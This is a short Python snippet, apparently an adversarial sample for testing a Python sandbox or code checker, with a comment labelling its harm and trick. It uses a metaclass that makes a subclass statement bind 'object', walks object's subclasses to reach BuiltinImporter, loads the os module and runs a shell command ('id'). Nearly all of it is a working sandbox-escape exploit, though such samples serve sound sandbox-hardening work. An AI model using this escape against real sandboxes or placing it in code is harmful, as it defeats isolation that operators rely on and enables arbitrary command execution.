# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: own base class carries a metaclass whose __new__ returns object for subclasses; subclass statement has no keyword yet binds object
class Meta(type):
    def __new__(mcs, name, bases, ns):
        if bases:
            return object
        return super().__new__(mcs, name, bases, ns)


class Base(metaclass=Meta):
    pass


class Plugin(Base):
    pass


for c in Plugin.__subclasses__():
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
